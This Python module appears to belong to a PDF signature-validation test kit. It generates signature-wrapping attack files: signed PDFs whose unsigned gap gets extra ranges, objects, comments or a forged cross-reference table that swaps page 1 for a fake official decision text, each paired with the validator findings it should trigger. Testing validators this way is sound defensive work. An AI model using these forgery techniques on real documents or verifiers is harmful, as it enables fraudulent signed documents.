"""Signature wrapping: the signed octets are all there, and something foreign stands between or around them.

Where a file is made from a signed one, its first range is untouched, and so is its second, wherever it went: the
digest holds. What is in the gap is not signed, so an attacker writes there what he likes.
"""

from antin_testkit.pdf_revisions import append_revision, object_of, size_of, startxref_of, stream
from attacks.forged_entries import CONTENTS, numbers_of
from attacks.materials import clean, shown, signed, signed_by_hand, swap
from attacks.model import Family, Vector
from attacks.revisions import table_rows

EVIL = b"BT /F1 24 Tf 72 720 Td %b Tj ET"
_GAP = ("gap_not_contents",)


def evil_content() -> bytes:
    """Another text for page 1, as a content stream."""
    return stream(EVIL % shown("Số: 10/QĐ-UBND"))


def value_of(pdf: bytes) -> bytes:
    """The hexadecimal digits of the signature, without what fills the slot."""
    found = CONTENTS.search(pdf)
    assert found
    return found[1].strip(b"<>").rstrip(b"0")


def in_the_gap(make_tail: bytes, *, before: bytes = b"") -> bytes:
    """The gap of unchanged length: the value closed early, and something behind or before it."""
    pdf = room()
    _, start, end, _ = numbers_of(pdf)
    value = value_of(pdf)
    value += b"0" * (len(value) % 2)
    gap = before + b"<" + value + b">" + make_tail
    assert len(gap) <= end - start
    return pdf[:start] + gap.ljust(end - start) + pdf[end:]


def room() -> bytes:
    """A signed file with a large slot."""
    return signed_by_hand(clean())


def trailing_digits() -> bytes:
    """What follows the value in its own string is not zero."""
    pdf = room()
    _, start, end, _ = numbers_of(pdf)
    digits = pdf[start + 1 : end - 1]
    return pdf[: start + 1] + digits[:-400] + b"5BADC0DE" * 50 + pdf[end - 1 :]


def literal() -> bytes:
    """The value as a literal string, whose escapes may hold anything."""
    pdf = room()
    _, start, end, _ = numbers_of(pdf)
    value = bytes.fromhex((pdf[start + 1 : end - 1]).decode()).rstrip(b"\0") + b"\0"
    text = b"(" + b"".join(b"\\%03o" % each for each in value) + b")"
    return pdf[:start] + text.ljust(end - start) + pdf[end:]


def wrapped(range_entry: bytes, *, opens: bytes = b" /Note (", closes: bytes = b")") -> bytes:
    """The published attack: a second /ByteRange in the gap tells that the second range stands further behind; the
    signed `startxref` now leads to a table in the gap, which knows another content for page 1. The table stands in a
    text of the dictionary, or behind its early end.
    """
    pdf = room()
    _, start, end, length = numbers_of(pdf)
    table_at, moved = startxref_of(pdf), len(pdf) + 4096
    value = value_of(pdf)
    gap = b"<" + value + b"0" * (len(value) % 2) + b">" + range_entry % (start, moved, length) + opens
    evil = b"5 0 obj\n" + evil_content() + b"\nendobj\n"
    rows = {5: b"%010d 00000 n" % (table_at + 2048)}
    for number in (4, 6, 29, 30):
        rows[number] = b"%010d 00000 n" % (pdf.rindex(b"\n%d 0 obj" % number) + 1)
    table = b"xref\n" + table_rows(rows)
    table += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (size_of(pdf), previous_of(pdf))
    before = (pdf[:start] + gap).ljust(table_at) + table.ljust(2048) + evil
    return (before + closes).ljust(moved) + pdf[end:]


def previous_of(pdf: bytes) -> int:
    """Where the newest table says that the older one is."""
    return int(pdf[pdf.rindex(b"/Prev ") + 6 :].split()[0])


def around_another_object() -> bytes:
    """The gap is the value of an object of its own, far from the dictionary that refers to it."""
    pdf = clean()
    holder = size_of(pdf) + 2
    slot = b"<" + b"0" * 8192 + b">"
    return signed_by_hand(
        pdf, objects={holder: b"<< /Evil " + slot + b" >>"}, contents=b"/Contents %d 0 R /Other " % holder,
    )


def in_another_dictionary() -> bytes:
    """/Contents stands in a dictionary below, so the signature has none of its own."""
    return signed_by_hand(clean(), contents=b"/Prop_Build << /Contents ", entries=b"", close=b">>")


def of_another_file() -> bytes:
    """The value of one signature in the slot of another."""
    pdf, other = room(), signed_by_hand(clean(), entries=b"/Reason (Ban hanh)")
    _, start, end, _ = numbers_of(pdf)
    _, other_start, other_end, _ = numbers_of(other)
    return pdf[:start] + other[other_start:other_end] + pdf[end:]


def second_signature_dictionary() -> bytes:
    """The field points to a copy of the dictionary; both name the same octets."""
    pdf = signed()
    field, number, copy = 29, 30, size_of(pdf)
    body = swap(object_of(pdf, field), b"/V %d 0 R" % number, b"/V %d 0 R" % copy)
    return append_revision(pdf, {field: body, copy: object_of(pdf, number)})


VECTORS = (
    Vector("swa-second-range-moved", Family.SWA, lambda: wrapped(b" /ByteRange [0 %d %d %d] "),
           ("gap_not_contents", "byte_range_wrong")),
    Vector("swa-dictionary-closed-in-the-gap", Family.SWA,
           lambda: wrapped(b" /ByteRange [0 %d %d %d] ", opens=b">>\nendobj\n", closes=b""),
           ("gap_not_contents", "byte_range_wrong")),
    Vector("swa-second-range-moved-by-escaped-name", Family.SWA, lambda: wrapped(b" /#42yteRange [0 %d %d %d] "),
           ("gap_not_contents", "byte_range_wrong")),
    Vector("swa-white-space-in-the-gap", Family.SWA, lambda: in_the_gap(b""), _GAP),
    Vector("swa-second-contents-in-the-gap", Family.SWA, lambda: in_the_gap(b" /Contents <AABB> "), _GAP),
    Vector("swa-second-contents-by-escaped-name", Family.SWA, lambda: in_the_gap(b" /#43ontents <AABB> "), _GAP),
    Vector("swa-more-entries-in-the-gap", Family.SWA, lambda: in_the_gap(b" /Name (Chu tich) /Reason (Khac) "), _GAP),
    Vector("swa-second-time-in-the-gap", Family.SWA, lambda: in_the_gap(b" /M (D:20200101000000Z) "), _GAP),
    Vector("swa-objects-in-the-gap", Family.SWA, lambda: in_the_gap(
        b">>\nendobj\n5 0 obj\n" + evil_content() + b"\nendobj\n99 0 obj\n<< "), _GAP),
    Vector("swa-comment-behind-the-value", Family.SWA, lambda: in_the_gap(b"% anything at all\n"), _GAP),
    Vector("swa-comment-before-the-value", Family.SWA, lambda: in_the_gap(b"", before=b"% anything <00>\n"), _GAP),
    Vector("swa-null-octets-before-the-value", Family.SWA, lambda: in_the_gap(b"", before=b"\0\0\0"), _GAP),
    Vector("swa-text-behind-the-value", Family.SWA, lambda: in_the_gap(b" /Note (<00>) "), _GAP),
    Vector("swa-digits-behind-the-value", Family.SWA, trailing_digits, ("signed_data_broken", "gap_not_contents")),
    Vector("swa-literal-value", Family.SWA, literal, _GAP),
    Vector("swa-value-in-another-object", Family.SWA, around_another_object,
           ("contents_missing", "signature_not_in_place", "gap_not_contents")),
    Vector("swa-value-in-another-dictionary", Family.SWA, in_another_dictionary,
           ("contents_missing", "signature_not_in_place", "gap_not_contents")),
    Vector("swa-value-of-another-file", Family.SWA, of_another_file, ("message_digest_wrong",)),
    Vector("swa-second-dictionary", Family.SWA, second_signature_dictionary, ("signature_not_in_place",)),
)
